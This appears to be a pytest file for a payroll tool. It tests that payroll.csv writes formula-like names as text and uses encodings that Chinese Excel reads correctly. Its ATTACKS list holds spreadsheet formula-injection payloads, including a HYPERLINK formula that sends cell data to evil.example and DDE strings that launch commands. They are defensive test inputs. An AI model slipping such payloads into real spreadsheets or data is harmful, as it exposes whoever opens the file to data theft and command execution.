"""payroll.csv is safe to open: no cell a spreadsheet runs as a formula, and an encoding Chinese
Excel reads right (UTF-8 with a BOM by default, or GB18030, or UTF-8 without a BOM)."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from innerpay.render.files import neutralised
from innerpay.render.rows import FORMULA_START

from .conftest import ROOT, run_cli, working_copy

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\tTab", "\rCR"]  # fmt: skip


def rename(company: Path, names: list[str]) -> None:
    """Give the first employees of 2024-05 these names."""
    path = company / "fixtures" / "2024-05" / "employees.csv"
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    for k, name in enumerate(names, start=1):
        rows[k][1] = name
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\r\n").writerows(rows)  # a CR in a cell is quoted


def payroll(company: Path, encoding: str = "utf-8-sig") -> list[dict[str, str]]:
    raw = (company / "out" / "2024-05" / "payroll.csv").read_bytes()
    return list(csv.DictReader(io.StringIO(raw.decode(encoding), newline="")))


def test_a_name_that_would_run_as_a_formula_is_written_as_text(company: Path) -> None:
    rename(company, ATTACKS)
    ran = run_cli(["compute", "--period", "2024-05"])
    assert ran.code == 0, ran.stderr
    rows = payroll(company)
    assert [row["name"] for row in rows[: len(ATTACKS)]] == ["'" + a for a in ATTACKS]
    assert all(not row[k].startswith(FORMULA_START) for row in rows for k in ("id", "name"))
    # results.json and the slips keep the name as it is
    results = json.loads((company / "out" / "2024-05" / "results.json").read_text("utf-8"))
    assert [e["name"] for e in list(results["employees"].values())[: len(ATTACKS)]] == ATTACKS
    assert run_cli(["verify", "out/2024-05"]).code == 0


@given(st.text(max_size=12))
def test_neutralised_text_never_starts_a_formula_and_keeps_the_rest(text: str) -> None:
    made = neutralised(text)
    assert not made.startswith(FORMULA_START)
    assert made in (text, "'" + text)
    assert (made == text) == (not text.startswith(FORMULA_START))


def test_payroll_csv_has_a_bom_by_default(company: Path) -> None:
    assert run_cli(["compute", "--period", "2024-05"]).code == 0
    raw = (company / "out" / "2024-05" / "payroll.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfid,name,department,")
    assert "王强 Wang Qiang" in raw.decode("utf-8-sig")


@pytest.mark.parametrize(("option", "codec"), [("utf-8", "utf-8"), ("gb18030", "gb18030")])
def test_csv_encoding_chooses_payroll_csvs_encoding(company: Path, option: str, codec: str) -> None:
    assert run_cli(["compute", "--period", "2024-05", "--out", "bom"]).code == 0
    ran = run_cli(["compute", "--period", "2024-05", "--csv-encoding", option])
    assert ran.code == 0, ran.stderr
    raw = (company / "out" / "2024-05" / "payroll.csv").read_bytes()
    assert raw.startswith(b"id,name,department,")
    bom = (company / "bom" / "2024-05" / "payroll.csv").read_bytes()
    assert raw.decode(codec) == bom.decode("utf-8-sig")  # the same text
    manifest = json.loads((company / "out" / "2024-05" / "manifest.json").read_text("utf-8"))
    assert manifest["options"]["csv_encoding"] == option
    assert run_cli(["verify", "out/2024-05"]).code == 0


@pytest.mark.parametrize("option", ["utf-8", "gb18030"])
def test_a_closed_months_payroll_csv_is_read_in_its_own_encoding(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, option: str
) -> None:
    # Year to date reads a closed month from its payroll.csv: the same February whichever
    # encoding January's was written in.
    working_copy(ROOT / "examples" / "cn-payroll", ("policies", "data"), tmp_path, monkeypatch)
    shutil.copytree(tmp_path / "data", tmp_path / "again")  # a second company, to close again
    for data, out, encoding in (("data", "plain", "utf-8-sig"), ("again", "other", option)):
        compute = ["compute", "--data", data, "--out", out, "--csv-encoding", encoding]
        assert run_cli([*compute, "--period", "2024-01"]).code == 0
        closing = ["close", "--period", "2024-01", "--data", data, "--out", out, "--by", "hr"]
        assert run_cli(closing).code == 0
        ran = run_cli([*compute, "--period", "2024-02", "--format", "json"])
        assert ran.code == 0, ran.stderr
    plain, other = (json.loads((tmp_path / out / "2024-02" / "results.json").read_text("utf-8"))
                    for out in ("plain", "other"))  # fmt: skip
    assert other["employees"] == plain["employees"]


def test_an_unknown_csv_encoding_is_a_usage_error(company: Path) -> None:
    ran = run_cli(["compute", "--period", "2024-05", "--csv-encoding", "latin-1"])
    assert ran.code == 2
    assert "'latin-1' is not one of 'utf-8-sig', 'utf-8', 'gb18030'" in ran.stderr
